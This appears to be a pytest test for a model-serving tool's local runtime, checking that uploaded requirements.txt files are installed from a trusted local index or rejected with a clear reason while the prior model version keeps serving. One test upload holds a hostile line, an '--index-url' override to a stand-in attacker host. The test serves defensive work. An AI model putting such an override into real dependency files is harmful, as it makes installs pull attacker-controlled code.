"""A requirements.txt in the local runtime: the real watcher, pip, and a package index on this machine."""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from .driving import Watcher, eventually, model
from .package_index import PackageIndex, package_index
from .test_local_runtime import FolderUploads, predict


@pytest.fixture
def index(tmp_path: Path) -> Iterator[PackageIndex]:
    with package_index(tmp_path / "index") as made:
        yield made


def until(watcher: Watcher, state: str) -> dict[str, Any]:
    """Return the model's status once it has this state."""
    return eventually(lambda: (found := watcher.model("iris"))["state"] == state and found)


def test_requirements_are_installed_or_rejected_in_words_and_the_version_before_keeps_serving(
    tmp_path: Path, index: PackageIndex
) -> None:
    uploads, state, values = FolderUploads(tmp_path / "bucket"), tmp_path / "state", tmp_path / "values.yaml"
    arguments = ("--runtime", "local", "--store", f"folder:{uploads.root}", "--state-dir", str(state))
    env = {"KUBESERVE_PIP_INDEX_URL": index.url, "no_proxy": "127.0.0.1"}
    index.wheel("needed")
    index.wheel("wanted", "needed")
    uploads.put("team/iris/v1/requirements.txt", b"wanted\n")
    uploads.put("team/iris/v1/model.joblib", model("one"))
    with Watcher(tmp_path / "log", *arguments, **env) as watcher:
        url = until(watcher, "Ready")["url"]
        assert predict(url) == ["one"]
        assert {path.name for path in state.glob("team/iris/*/packages/*.py")} == {"needed.py", "wanted.py"}
        asked = len(index.asked)
        uploads.put("team/iris/v2/requirements.txt", b"wanted\n--index-url http://evil.example/simple\n")
        uploads.put("team/iris/v2/model.joblib", model("two"))
        rejected = until(watcher, "Rejected")
        assert rejected["reason"].startswith("team/iris/v2/requirements.txt, line 2: options are not allowed")
        assert predict(url) == ["one"]
        assert len(index.asked) == asked
    uploads.delete("team/iris/v2/model.joblib")
    values.write_text("download: {requirements: hashed}")
    with Watcher(tmp_path / "log2", *arguments, "--chart-values", str(values), **env) as watcher:
        rejected = until(watcher, "Rejected")
        assert "requirements.txt, line 1 (wanted): an exact version and a --hash are needed" in rejected["reason"]
        assert len(index.asked) == asked
